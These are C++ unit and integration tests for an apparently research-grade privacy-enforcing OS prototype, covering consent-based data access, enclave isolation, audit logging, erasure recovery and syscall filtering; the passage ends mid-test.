TEST(PlacementTest, PisWinsScanHeavyWork) {
  PlacementPlanner planner;
  DedWorkload scan;
  scan.bytes_in = 256ull << 20;  // 256 MiB of PD scanned
  scan.bytes_out = 64;           // one aggregate comes back
  scan.compute_ops = 1'000'000;  // a light filter per record
  EXPECT_EQ(planner.Choose(scan), DedPlacement::kPis);
}

TEST(PlacementTest, PimSitsBetween) {
  PlacementPlanner planner;
  // Moderate data with moderate compute: PIM's free memory-to-core hop
  // beats host, while PIS's slow cores lose on the compute term.
  DedWorkload mixed;
  mixed.bytes_in = 64ull << 20;
  mixed.bytes_out = 1 << 10;
  mixed.compute_ops = 4'000'000;  // ~0.06 ops/byte: PIM's sweet spot
  const double host = planner.EstimateNs(DedPlacement::kHost, mixed);
  const double pim = planner.EstimateNs(DedPlacement::kPim, mixed);
  EXPECT_LT(pim, host);
  EXPECT_EQ(planner.Choose(mixed), DedPlacement::kPim);
}

TEST(PlacementTest, CrossoverMovesWithComputeIntensity) {
  // Sweep ops-per-byte: the chosen placement must walk PIS -> PIM ->
  // host monotonically (never back towards the data as compute grows).
  PlacementPlanner planner;
  int last_rank = -1;
  const auto rank = [](DedPlacement p) {
    switch (p) {
      case DedPlacement::kPis: return 0;
      case DedPlacement::kPim: return 1;
      case DedPlacement::kHost: return 2;
    }
    return -1;
  };
  for (std::uint64_t ops_per_byte : {0ull, 1ull, 4ull, 16ull, 64ull}) {
    DedWorkload workload;
    workload.bytes_in = 8ull << 20;
    workload.compute_ops = workload.bytes_in * ops_per_byte;
    const int r = rank(planner.Choose(workload));
    EXPECT_GE(r, last_rank) << "ops/byte " << ops_per_byte;
    last_rank = std::max(last_rank, r);
  }
  EXPECT_EQ(last_rank, 2);  // ends at host
}

TEST(PlacementTest, EstimatesAreAdditive) {
  const PlacementProfile host = PlacementProfile::Host();
  DedWorkload a{1000, 100, 5000};
  DedWorkload b{2000, 200, 10000};
  DedWorkload sum{3000, 300, 15000};
  EXPECT_DOUBLE_EQ(host.EstimateNs(a) + host.EstimateNs(b),
                   host.EstimateNs(sum));
}

TEST(PlacementTest, Names) {
  EXPECT_EQ(kernel::PlacementName(DedPlacement::kHost), "host");
  EXPECT_EQ(kernel::PlacementName(DedPlacement::kPim), "pim");
  EXPECT_EQ(kernel::PlacementName(DedPlacement::kPis), "pis");
}

// ---- Enclave memory -------------------------------------------------------------------

class EnclaveTest : public ::testing::Test {
 protected:
  SimClock clock_{0};
  sentinel::AuditSink audit_;
  sentinel::Sentinel sentinel_{sentinel::SecurityPolicy::RgpdDefault(),
                               &clock_, &audit_};
};

TEST_F(EnclaveTest, OwnerCanReadAndWrite) {
  sentinel::EnclaveRegion enclave(sentinel::Domain::kDed, 64, 4, &sentinel_);
  const auto token = enclave.Mint(sentinel::Domain::kDed);
  ASSERT_TRUE(enclave.Write(token, 0, ToBytes("pd working set")).ok());
  auto page = enclave.Read(token, 0);
  ASSERT_TRUE(page.ok());
  EXPECT_TRUE(ContainsSubsequence(*page, ToBytes("pd working set")));
}

TEST_F(EnclaveTest, ForeignDomainIsDeniedAndAudited) {
  sentinel::EnclaveRegion enclave(sentinel::Domain::kDed, 64, 4, &sentinel_);
  const auto owner = enclave.Mint(sentinel::Domain::kDed);
  ASSERT_TRUE(enclave.Write(owner, 1, ToBytes("secret")).ok());

  const std::uint64_t denied_before = audit_.denied_count();
  const auto intruder = enclave.Mint(sentinel::Domain::kApplication);
  auto read = enclave.Read(intruder, 1);
  EXPECT_EQ(read.status().code(), StatusCode::kAccessBlocked);
  EXPECT_EQ(enclave.Write(intruder, 1, ToBytes("x")).code(),
            StatusCode::kAccessBlocked);
  EXPECT_EQ(audit_.denied_count(), denied_before + 2);
}

TEST_F(EnclaveTest, TeardownZeroesPagesAndKillsTokens) {
  sentinel::EnclaveRegion enclave(sentinel::Domain::kDed, 64, 4, &sentinel_);
  const auto token = enclave.Mint(sentinel::Domain::kDed);
  ASSERT_TRUE(enclave.Write(token, 2, ToBytes("ENCLAVE_SECRET")).ok());
  EXPECT_TRUE(enclave.ContainsPlaintext(ToBytes("ENCLAVE_SECRET")));

  enclave.Teardown();
  // No residue — the use-after-free read of Fig 2 finds zeros.
  EXPECT_FALSE(enclave.ContainsPlaintext(ToBytes("ENCLAVE_SECRET")));
  // The old token is dead even for the rightful owner...
  auto stale = enclave.Read(token, 2);
  EXPECT_EQ(stale.status().code(), StatusCode::kAccessBlocked);
  EXPECT_NE(stale.status().message().find("stale"), std::string::npos);
  // ...and a fresh token works again.
  const auto fresh = enclave.Mint(sentinel::Domain::kDed);
  EXPECT_TRUE(enclave.Read(fresh, 2).ok());
}

TEST_F(EnclaveTest, BoundsAndSizeChecks) {
  sentinel::EnclaveRegion enclave(sentinel::Domain::kDed, 16, 2, &sentinel_);
  const auto token = enclave.Mint(sentinel::Domain::kDed);
  EXPECT_EQ(enclave.Read(token, 5).status().code(),
            StatusCode::kOutOfRange);
  EXPECT_EQ(enclave.Write(token, 0, Bytes(64, 0)).code(),
            StatusCode::kInvalidArgument);
}

}  // namespace
}  // namespace rgpdos
