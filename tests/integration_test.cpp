// End-to-end integration tests: the paper's Listings 1-3 as executable
// scenarios, plus the headline enforcement behaviours across the whole
// stack (boot -> declare type -> register processing -> invoke -> rights).
#include <gtest/gtest.h>

#include "core/rgpdos.hpp"
#include "metrics/metrics.hpp"
#include "workload/workload.hpp"

namespace rgpdos {
namespace {

using core::ImplManifest;
using core::InvokeOptions;
using core::InvokeResult;
using core::PdRef;
using core::ProcessingFn;
using core::ProcessingInput;
using core::ProcessingOutput;

// The paper's Listing 1, almost verbatim (field types and the age/
// sensitivity clauses follow the listing; "hight" spelling included in a
// dedicated DSL test).
constexpr std::string_view kUserType = R"(
type user {
  fields {
    name: string,
    pwd: string,
    year_of_birthdate: int
  };
  view v_name {
    name
  };
  view v_ano {
    year_of_birthdate
  };
  consent {
    purpose1: all,
    purpose2: none,
    purpose3: v_ano
  };
  collection {
    web_form: user_form.html,
    third_party: fetch_data.py
  };
  origin: subject;
  age: 1Y;
  sensitivity: high;
}

type age {
  fields {
    value: int
  };
  consent {
    purpose1: all
  };
  origin: subject;
  sensitivity: low;
}
)";

// Listing 2's purpose, declared in the purpose language.
constexpr std::string_view kPurpose3 = R"(
purpose purpose3 {
  input: user.v_ano;
  output: age;
  description: "compute the age of the input user";
}
)";

// Listing 2's compute_age as a ProcessingFn: note the availability check
// on the consented field, exactly like `if (user.age)` in the paper.
Result<ProcessingOutput> ComputeAge(ProcessingInput& input) {
  ProcessingOutput output;
  if (!input.Has("year_of_birthdate")) {
    output.npd = ToBytes("unavailable");
    return output;
  }
  RGPD_ASSIGN_OR_RETURN(db::Value year, input.Field("year_of_birthdate"));
  const std::int64_t age = 2026 - *year.AsInt();
  output.derived_row = db::Row{db::Value(age)};
  output.npd = ToBytes("ok");
  return output;
}

class IntegrationTest : public ::testing::Test {
 protected:
  void SetUp() override {
    core::BootConfig config;
    config.use_sim_clock = true;
    // 1024-bit authority key: the smallest size whose OAEP block fits
    // the 44-byte ChaCha20 key+nonce wrap, and still fast to generate.
    config.authority_key_bits = 1024;
    auto os = core::RgpdOs::Boot(config);
    ASSERT_TRUE(os.ok()) << os.status().ToString();
    os_ = std::move(os).value();
    auto declared = os_->DeclareTypes(kUserType);
    ASSERT_TRUE(declared.ok()) << declared.status().ToString();
    ASSERT_EQ(*declared, 2u);
  }

  /// Store one user record through the DED surface (as the acquisition
  /// built-in would).
  dbfs::RecordId PutUser(std::uint64_t subject, std::string name,
                         std::int64_t year) {
    auto type = os_->dbfs().GetType(sentinel::Domain::kDed, "user");
    EXPECT_TRUE(type.ok());
    membrane::Membrane m =
        (*type)->DefaultMembrane(subject, os_->clock().Now());
    db::Row row{db::Value(std::move(name)), db::Value(std::string("pw")),
                db::Value(year)};
    auto id = os_->dbfs().Put(sentinel::Domain::kDed, subject, "user", row,
                              std::move(m));
    EXPECT_TRUE(id.ok()) << id.status().ToString();
    return *id;
  }

  std::unique_ptr<core::RgpdOs> os_;
};

TEST_F(IntegrationTest, Listing123EndToEnd) {
  // main(): register the processing (Listing 3: ps_register).
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose3";
  manifest.fields_read = {"year_of_birthdate"};
  manifest.output_type = "age";
  auto processing =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(processing.ok()) << processing.status().ToString();
  ASSERT_TRUE(os_->ps().IsActive(*processing));

  const dbfs::RecordId alice = PutUser(1, "alice", 1990);
  PutUser(2, "bob", 1985);

  // ps_invoke over every user record.
  auto result = os_->ps().Invoke(sentinel::Domain::kApplication,
                                 *processing, InvokeOptions{});
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_EQ(result->records_considered, 2u);
  EXPECT_EQ(result->records_processed, 2u);
  EXPECT_EQ(result->records_filtered_out, 0u);
  // Derived PD comes back as references only.
  ASSERT_EQ(result->derived.size(), 2u);
  EXPECT_EQ(result->derived[0].type_name, "age");

  // The derived age rows actually landed in DBFS with membranes.
  auto derived = os_->dbfs().Get(sentinel::Domain::kDed,
                                 result->derived[0].record_id);
  ASSERT_TRUE(derived.ok());
  EXPECT_EQ(*derived->row[0].AsInt(), 2026 - 1990);
  EXPECT_EQ(derived->membrane.origin, membrane::Origin::kDerived);

  // Targeted invocation on one record (Listing 3's id_PD argument).
  InvokeOptions targeted;
  targeted.target = PdRef{alice, "user"};
  auto single = os_->ps().Invoke(sentinel::Domain::kApplication,
                                 *processing, targeted);
  ASSERT_TRUE(single.ok());
  EXPECT_EQ(single->records_considered, 1u);
}

TEST_F(IntegrationTest, PsInvokeRecordsMetricsAcrossLayers) {
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose3";
  manifest.fields_read = {"year_of_birthdate"};
  manifest.output_type = "age";
  auto processing =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(processing.ok()) << processing.status().ToString();
  PutUser(1, "alice", 1990);
  PutUser(2, "bob", 1985);

  // Reset after setup so the snapshot reflects exactly one enforcement
  // pass: ps_invoke -> sentinel -> DED -> DBFS -> inode store.
  metrics::MetricsRegistry& registry = metrics::MetricsRegistry::Instance();
  registry.ResetAll();
  auto result = os_->ps().Invoke(sentinel::Domain::kApplication,
                                 *processing, InvokeOptions{});
  ASSERT_TRUE(result.ok()) << result.status().ToString();

  // Verify through the JSON exporter, not the live registry: the
  // acceptance path is snapshot -> JSON -> parse -> assert.
  auto snapshot = metrics::MetricsSnapshot::FromJson(registry.JsonSnapshot());
  ASSERT_TRUE(snapshot.ok()) << snapshot.status().ToString();

  const auto counter = [&](std::string_view name) -> std::uint64_t {
    const std::uint64_t* value = snapshot->FindCounter(name);
    EXPECT_NE(value, nullptr) << "missing counter " << name;
    return value == nullptr ? 0 : *value;
  };
  const auto histogram_count =
      [&](std::string_view name) -> std::uint64_t {
    const metrics::HistogramSnapshot* h = snapshot->FindHistogram(name);
    EXPECT_NE(h, nullptr) << "missing histogram " << name;
    return h == nullptr ? 0 : h->count;
  };

  // Layer 1: core (PS + DED + consent filter).
  EXPECT_EQ(counter("core.ps_invoke.count"), 1u);
  EXPECT_EQ(counter("core.ded_execute.count"), 1u);
  EXPECT_EQ(counter("core.consent.approved"), 2u);
  EXPECT_EQ(counter("core.records.processed"), 2u);
  EXPECT_EQ(histogram_count("core.ps_invoke.latency_ns"), 1u);
  EXPECT_EQ(histogram_count("core.ded_execute.latency_ns"), 1u);

  // Layer 2: dbfs (reads of the two user records, stores of derived age).
  EXPECT_GE(counter("dbfs.get.count"), 2u);
  EXPECT_GE(counter("dbfs.put.count"), 2u);
  EXPECT_GE(histogram_count("dbfs.get.latency_ns"), 2u);
  EXPECT_GE(histogram_count("dbfs.put.latency_ns"), 2u);

  // Layer 3: inodefs (journalled commits + block IO behind DBFS).
  EXPECT_GE(counter("inodefs.journal.commits"), 1u);
  EXPECT_GE(counter("inodefs.txn.commits"), 1u);
  EXPECT_GE(counter("inodefs.block.writes"), 1u);
  EXPECT_GE(histogram_count("inodefs.journal.commit_latency_ns"), 1u);

  // Layer 4: sentinel (every domain crossing was checked and audited).
  EXPECT_GE(counter("sentinel.enforce.allowed"), 2u);
  EXPECT_GE(counter("sentinel.audit.entries"), 2u);

  // The span tracer saw the invocation too.
  bool saw_invoke_span = false;
  for (const metrics::SpanSnapshot& span : snapshot->spans) {
    if (span.component == "core" && span.name == "ps_invoke") {
      saw_invoke_span = true;
    }
  }
  EXPECT_TRUE(saw_invoke_span);
}

TEST_F(IntegrationTest, DeniedInvokeBumpsDenialCounters) {
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose3";
  manifest.fields_read = {"year_of_birthdate"};
  manifest.output_type = "age";
  auto processing =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(processing.ok());

  metrics::MetricsRegistry& registry = metrics::MetricsRegistry::Instance();
  registry.ResetAll();
  // The DED domain may not call ps_invoke (only applications and the
  // kernel can): the sentinel denies the crossing.
  auto denied = os_->ps().Invoke(sentinel::Domain::kDed, *processing, {});
  ASSERT_FALSE(denied.ok());

  const metrics::MetricsSnapshot snapshot = registry.Snapshot();
  const std::uint64_t* ps_denied =
      snapshot.FindCounter("core.ps_invoke.denied");
  ASSERT_NE(ps_denied, nullptr);
  EXPECT_EQ(*ps_denied, 1u);
  const std::uint64_t* sentinel_denied =
      snapshot.FindCounter("sentinel.enforce.denied");
  ASSERT_NE(sentinel_denied, nullptr);
  EXPECT_GE(*sentinel_denied, 1u);
}

TEST_F(IntegrationTest, ConsentRestrictsFieldVisibility) {
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose3";
  manifest.fields_read = {"year_of_birthdate"};
  manifest.output_type = "age";

  // A nosy implementation that tries to read the password.
  ProcessingFn nosy = [](ProcessingInput& input) -> Result<ProcessingOutput> {
    EXPECT_FALSE(input.Has("pwd"));
    EXPECT_FALSE(input.Has("name"));
    auto pwd = input.Field("pwd");
    EXPECT_FALSE(pwd.ok());
    EXPECT_EQ(pwd.status().code(), StatusCode::kConsentDenied);
    ProcessingOutput output;
    output.npd = ToBytes("done");
    return output;
  };
  auto processing = os_->RegisterProcessingSource(kPurpose3, nosy, manifest);
  ASSERT_TRUE(processing.ok());
  PutUser(1, "alice", 1990);
  auto result = os_->ps().Invoke(sentinel::Domain::kApplication,
                                 *processing, {});
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_EQ(result->records_processed, 1u);
}

TEST_F(IntegrationTest, Purpose2IsDeniedByDefaultConsent) {
  constexpr std::string_view kPurpose2 = R"(
purpose purpose2 {
  input: user;
  description: "profiling without a legitimate basis";
}
)";
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose2";
  auto processing = os_->RegisterProcessingSource(
      kPurpose2,
      [](ProcessingInput&) -> Result<ProcessingOutput> {
        ADD_FAILURE() << "purpose2 must never execute";
        return ProcessingOutput{};
      },
      manifest);
  ASSERT_TRUE(processing.ok());
  PutUser(1, "alice", 1990);
  auto result =
      os_->ps().Invoke(sentinel::Domain::kApplication, *processing, {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->records_considered, 1u);
  EXPECT_EQ(result->records_filtered_out, 1u);
  EXPECT_EQ(result->records_processed, 0u);
}

TEST_F(IntegrationTest, TtlExpiryFiltersRecords) {
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose3";
  manifest.fields_read = {"year_of_birthdate"};
  manifest.output_type = "age";
  auto processing =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(processing.ok());
  PutUser(1, "alice", 1990);

  // Advance past the type's `age: 1Y`.
  os_->sim_clock()->Advance(kMicrosPerYear + 1);
  auto result =
      os_->ps().Invoke(sentinel::Domain::kApplication, *processing, {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->records_filtered_out, 1u);
  EXPECT_EQ(result->records_processed, 0u);
}

TEST_F(IntegrationTest, ApplicationsCannotTouchDbfsDirectly) {
  PutUser(1, "alice", 1990);
  // Direct application access to DBFS is blocked by the sentinel...
  auto get = os_->dbfs().Get(sentinel::Domain::kApplication, 1);
  EXPECT_FALSE(get.ok());
  EXPECT_EQ(get.status().code(), StatusCode::kAccessBlocked);
  // ...and leaves an audit record of the denial.
  const auto denials = os_->audit().Query([](const sentinel::AuditEntry& e) {
    return !e.allowed &&
           e.request.subject == sentinel::Domain::kApplication &&
           e.request.object == sentinel::Domain::kDbfs;
  });
  EXPECT_FALSE(denials.empty());
}

TEST_F(IntegrationTest, RightOfAccessProducesStructuredExport) {
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose3";
  manifest.fields_read = {"year_of_birthdate"};
  manifest.output_type = "age";
  auto processing =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(processing.ok());
  PutUser(7, "carol", 2000);
  ASSERT_TRUE(
      os_->ps().Invoke(sentinel::Domain::kApplication, *processing, {}).ok());

  auto report = os_->RightOfAccess(7);
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  // Structured AND exploitable: field names are present as keys.
  EXPECT_NE(report->find("\"year_of_birthdate\":2000"), std::string::npos);
  EXPECT_NE(report->find("\"name\":\"carol\""), std::string::npos);
  // The processing history for this subject's PD is included.
  EXPECT_NE(report->find("\"purpose\":\"purpose3\""), std::string::npos);
  EXPECT_NE(report->find("\"outcome\":\"processed\""), std::string::npos);
}

TEST_F(IntegrationTest, RightToBeForgottenIsRecoverableOnlyByAuthority) {
  const dbfs::RecordId record = PutUser(3, "dave_secret_name", 1970);
  auto erased = os_->RightToBeForgotten(3);
  ASSERT_TRUE(erased.ok()) << erased.status().ToString();
  EXPECT_EQ(*erased, 1u);

  // Operator-side reads see an erased record with no row data.
  auto get = os_->dbfs().Get(sentinel::Domain::kDed, record);
  ASSERT_TRUE(get.ok());
  EXPECT_TRUE(get->erased);
  EXPECT_TRUE(get->row.empty());

  // No plaintext on any shard's raw device or journal history.
  const Bytes needle = ToBytes("dave_secret_name");
  for (std::size_t s = 0; s < os_->shard_count(); ++s) {
    EXPECT_EQ(blockdev::CountBlocksContaining(os_->dbfs_device(s), needle),
              0u);
  }

  // The authority recovers the plaintext from the envelope.
  auto envelope = os_->dbfs().GetEnvelope(sentinel::Domain::kDed, record);
  ASSERT_TRUE(envelope.ok());
  auto recovered = os_->authority().Recover(*envelope);
  ASSERT_TRUE(recovered.ok()) << recovered.status().ToString();
  auto type = os_->dbfs().GetType(sentinel::Domain::kDed, "user");
  auto row = (*type)->ToSchema().DecodeRow(*recovered);
  ASSERT_TRUE(row.ok());
  EXPECT_EQ(*(*row)[0].AsString(), "dave_secret_name");
}

TEST_F(IntegrationTest, CollectionInitialisesDbfsWithMembranes) {
  // Simulated web form: two subjects submit the form.
  os_->ps().RegisterCollectionSource(
      "web_form",
      [](const membrane::CollectionInterface& interface)
          -> Result<std::vector<std::pair<dbfs::SubjectId, db::Row>>> {
        EXPECT_EQ(interface.target, "user_form.html");
        std::vector<std::pair<dbfs::SubjectId, db::Row>> out;
        out.emplace_back(10, db::Row{db::Value(std::string("erin")),
                                     db::Value(std::string("pw")),
                                     db::Value(std::int64_t{1995})});
        out.emplace_back(11, db::Row{db::Value(std::string("frank")),
                                     db::Value(std::string("pw")),
                                     db::Value(std::int64_t{1988})});
        return out;
      });
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose3";
  manifest.fields_read = {"year_of_birthdate"};
  manifest.output_type = "age";
  auto processing =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(processing.ok());

  InvokeOptions options;
  options.collection_method = "web_form";
  options.collect_first = true;
  auto result =
      os_->ps().Invoke(sentinel::Domain::kApplication, *processing, options);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_EQ(result->records_considered, 2u);
  EXPECT_EQ(result->records_processed, 2u);
  // Collected PD carries the type's default membrane (origin = subject).
  // Subject 10 now owns two records: the collected `user` row and the
  // derived `age` row produced by purpose3.
  auto ids = os_->dbfs().RecordsOfSubject(sentinel::Domain::kDed, 10);
  ASSERT_TRUE(ids.ok());
  ASSERT_EQ(ids->size(), 2u);
  bool saw_user = false;
  for (dbfs::RecordId id : *ids) {
    auto record = os_->dbfs().Get(sentinel::Domain::kDed, id);
    ASSERT_TRUE(record.ok());
    if (record->type_name == "user") {
      saw_user = true;
      EXPECT_EQ(record->membrane.origin, membrane::Origin::kSubject);
      EXPECT_EQ(record->membrane.sensitivity, membrane::Sensitivity::kHigh);
    } else {
      EXPECT_EQ(record->type_name, "age");
      EXPECT_EQ(record->membrane.origin, membrane::Origin::kDerived);
    }
  }
  EXPECT_TRUE(saw_user);
}

TEST_F(IntegrationTest, PdNeverEntersApplicationAddressSpace) {
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose3";
  manifest.fields_read = {"year_of_birthdate"};
  manifest.output_type = "age";
  auto processing =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(processing.ok());
  PutUser(1, "walter_super_secret", 1990);
  auto result =
      os_->ps().Invoke(sentinel::Domain::kApplication, *processing, {});
  ASSERT_TRUE(result.ok());
  // E5: the InvokeResult contains refs and NPD only; no PD field value
  // appears in any NPD output.
  const Bytes needle = ToBytes("walter_super_secret");
  for (const Bytes& npd : result->npd_outputs) {
    EXPECT_FALSE(ContainsSubsequence(npd, needle));
  }
  for (const PdRef& ref : result->derived) {
    EXPECT_NE(ref.record_id, 0u);
  }
}

}  // namespace
}  // namespace rgpdos
