// Sentinel tests: the deny-by-default policy matrix (the paper's four
// enforcement restrictions), audit recording, and the seccomp-analogue
// syscall filter.
#include <gtest/gtest.h>

#include "sentinel/policy.hpp"
#include "sentinel/syscall_filter.hpp"

namespace rgpdos::sentinel {
namespace {

TEST(SecurityPolicyTest, DenyByDefault) {
  SecurityPolicy policy;
  EXPECT_FALSE(
      policy.Check(Domain::kApplication, Domain::kDbfs, Operation::kRead));
  policy.Allow(Domain::kApplication, Domain::kDbfs, Operation::kRead);
  EXPECT_TRUE(
      policy.Check(Domain::kApplication, Domain::kDbfs, Operation::kRead));
  // Allowing one triple does not allow neighbours.
  EXPECT_FALSE(
      policy.Check(Domain::kApplication, Domain::kDbfs, Operation::kWrite));
  EXPECT_FALSE(
      policy.Check(Domain::kOutside, Domain::kDbfs, Operation::kRead));
}

TEST(SecurityPolicyTest, RgpdDefaultImplementsPaperRules) {
  const SecurityPolicy p = SecurityPolicy::RgpdDefault();
  // Rule (4): only the DED touches DBFS records.
  EXPECT_TRUE(p.Check(Domain::kDed, Domain::kDbfs, Operation::kRead));
  EXPECT_TRUE(p.Check(Domain::kDed, Domain::kDbfs, Operation::kWrite));
  for (Domain d : {Domain::kOutside, Domain::kApplication,
                   Domain::kGeneralKernel, Domain::kSysadmin,
                   Domain::kIoKernel, Domain::kAuthority}) {
    EXPECT_FALSE(p.Check(d, Domain::kDbfs, Operation::kRead))
        << DomainName(d);
    EXPECT_FALSE(p.Check(d, Domain::kDbfs, Operation::kWrite))
        << DomainName(d);
  }
  // Rule (2): applications reach PS only, and only register/invoke.
  EXPECT_TRUE(p.Check(Domain::kApplication, Domain::kProcessingStore,
                      Operation::kRegister));
  EXPECT_TRUE(p.Check(Domain::kApplication, Domain::kProcessingStore,
                      Operation::kInvoke));
  EXPECT_FALSE(p.Check(Domain::kApplication, Domain::kProcessingStore,
                       Operation::kRead));
  EXPECT_FALSE(
      p.Check(Domain::kApplication, Domain::kDed, Operation::kInvoke));
  // Rule (1): PS reads its own registry; nobody else can.
  EXPECT_TRUE(p.Check(Domain::kProcessingStore, Domain::kProcessingStore,
                      Operation::kRead));
  EXPECT_FALSE(p.Check(Domain::kApplication, Domain::kProcessingStore,
                       Operation::kApprove));
  // Sysadmin administers the schema tree but cannot read PD.
  EXPECT_TRUE(
      p.Check(Domain::kSysadmin, Domain::kDbfs, Operation::kCreate));
  EXPECT_TRUE(
      p.Check(Domain::kSysadmin, Domain::kDbfs, Operation::kReadSchema));
  EXPECT_FALSE(p.Check(Domain::kSysadmin, Domain::kDbfs, Operation::kRead));
}

TEST(SentinelTest, EnforceAllowsAndDeniesWithAudit) {
  SimClock clock(500);
  AuditSink audit;
  Sentinel sentinel(SecurityPolicy::RgpdDefault(), &clock, &audit);

  AccessRequest ok_request{Domain::kDed, Domain::kDbfs, Operation::kRead,
                           "record=1"};
  EXPECT_TRUE(sentinel.Enforce(ok_request).ok());

  AccessRequest bad_request{Domain::kOutside, Domain::kDbfs,
                            Operation::kRead, "raw device probe"};
  const Status denied = sentinel.Enforce(bad_request);
  EXPECT_EQ(denied.code(), StatusCode::kAccessBlocked);
  EXPECT_NE(denied.message().find("outside"), std::string::npos);

  ASSERT_EQ(audit.entries().size(), 2u);
  EXPECT_EQ(audit.allowed_count(), 1u);
  EXPECT_EQ(audit.denied_count(), 1u);
  EXPECT_EQ(audit.entries()[0].at, 500);
  EXPECT_TRUE(audit.entries()[0].allowed);
  EXPECT_FALSE(audit.entries()[1].allowed);
  EXPECT_EQ(audit.entries()[1].request.detail, "raw device probe");
}

TEST(AuditSinkTest, QueryFilters) {
  SimClock clock(0);
  AuditSink audit;
  Sentinel sentinel(SecurityPolicy::RgpdDefault(), &clock, &audit);
  (void)sentinel.Enforce({Domain::kDed, Domain::kDbfs, Operation::kRead, ""});
  (void)sentinel.Enforce(
      {Domain::kOutside, Domain::kDbfs, Operation::kRead, ""});
  (void)sentinel.Enforce(
      {Domain::kOutside, Domain::kDbfs, Operation::kWrite, ""});
  const auto denials = audit.Query(
      [](const AuditEntry& e) { return !e.allowed; });
  EXPECT_EQ(denials.size(), 2u);
  audit.Clear();
  EXPECT_TRUE(audit.entries().empty());
  // Clear empties only the hot window; the tallies are lifetime
  // evidence counters and keep their totals.
  EXPECT_EQ(audit.denied_count(), 2u);
  EXPECT_EQ(audit.allowed_count(), 1u);
}

TEST(AuditSinkTest, QueryPredicateMayTakeLocks) {
  // Regression: Query used to run the caller's predicate while holding
  // the sink mutex, so a predicate touching ANY lock-ranked subsystem —
  // here, the sink itself via its counters-with-lock accessor — could
  // deadlock or abort the lock-rank checker. The predicate now runs on
  // a snapshot with the sink lock released.
  AuditSink audit;
  for (int i = 0; i < 8; ++i) {
    audit.Record({/*at=*/i, {}, /*allowed=*/(i % 2) == 0, "r"});
  }
  const auto matched = audit.Query([&audit](const AuditEntry& e) {
    // entry_count() takes the sink's own mutex: safe only because the
    // predicate runs outside it.
    return e.allowed && audit.entry_count() > 0;
  });
  EXPECT_EQ(matched.size(), 4u);
}

TEST(AuditSinkTest, RingDropsOldestAndKeepsTalliesExact) {
  AuditSink audit(/*capacity=*/4);
  for (int i = 0; i < 10; ++i) {
    AuditEntry entry;
    entry.at = i;
    entry.allowed = (i % 2) == 0;
    entry.rule = "rule-" + std::to_string(i);
    audit.Record(std::move(entry));
  }
  // The ring keeps only the newest 4, oldest first...
  ASSERT_EQ(audit.entry_count(), 4u);
  EXPECT_EQ(audit.entries().front().at, 6);
  EXPECT_EQ(audit.entries().back().at, 9);
  EXPECT_EQ(audit.dropped_count(), 6u);
  // ...while the tallies keep counting every Record ever made.
  EXPECT_EQ(audit.allowed_count(), 5u);
  EXPECT_EQ(audit.denied_count(), 5u);
  // Query sees exactly what the ring retains.
  const auto denials =
      audit.Query([](const AuditEntry& e) { return !e.allowed; });
  ASSERT_EQ(denials.size(), 2u);
  EXPECT_EQ(denials[0].at, 7);
  EXPECT_EQ(denials[1].at, 9);
}

TEST(AuditSinkTest, SetCapacityTrimsAndUnboundedSentinel) {
  AuditSink audit(AuditSink::kUnbounded);
  for (int i = 0; i < 100; ++i) {
    audit.Record({/*at=*/i, {}, /*allowed=*/true, "r"});
  }
  EXPECT_EQ(audit.entry_count(), 100u);
  EXPECT_EQ(audit.dropped_count(), 0u);
  audit.SetCapacity(10);  // re-bounding trims the oldest immediately
  EXPECT_EQ(audit.entry_count(), 10u);
  EXPECT_EQ(audit.entries().front().at, 90);
  EXPECT_EQ(audit.dropped_count(), 90u);
  audit.Clear();
  EXPECT_EQ(audit.entry_count(), 0u);
  // dropped_count is a lifetime evidence counter: Clear must not erase
  // the only trace that entries were ever lost.
  EXPECT_EQ(audit.dropped_count(), 90u);
}

TEST(AuditSinkTest, ZeroCapacityRetainsNothingAndCountsDrops) {
  // 0 used to silently mean "unbounded" — the opposite of what a
  // zero-sized evidence buffer should do. It now retains nothing, and
  // without a durable pipeline every entry counts as dropped.
  AuditSink audit(/*capacity=*/0);
  for (int i = 0; i < 5; ++i) {
    audit.Record({/*at=*/i, {}, /*allowed=*/true, "r"});
  }
  EXPECT_EQ(audit.entry_count(), 0u);
  EXPECT_EQ(audit.dropped_count(), 5u);
  EXPECT_EQ(audit.allowed_count(), 5u);  // tallies still exact
}

// ---- Syscall filter -----------------------------------------------------------------

TEST(SyscallFilterTest, FirstMatchWins) {
  SyscallFilter filter({{Syscall::kWrite, FilterAction::kAllow},
                        {Syscall::kWrite, FilterAction::kDeny}},
                       FilterAction::kDeny);
  EXPECT_EQ(filter.Evaluate(Syscall::kWrite), FilterAction::kAllow);
  EXPECT_EQ(filter.Evaluate(Syscall::kRead), FilterAction::kDeny);
}

TEST(SyscallFilterTest, WildcardRule) {
  SyscallFilter filter({{std::nullopt, FilterAction::kKill}},
                       FilterAction::kAllow);
  EXPECT_EQ(filter.Evaluate(Syscall::kGetTime), FilterAction::kKill);
}

TEST(SyscallFilterTest, PdProfileBlocksLeakingSyscalls) {
  const SyscallFilter filter = SyscallFilter::PdProcessingProfile();
  EXPECT_EQ(filter.Evaluate(Syscall::kWrite), FilterAction::kDeny);
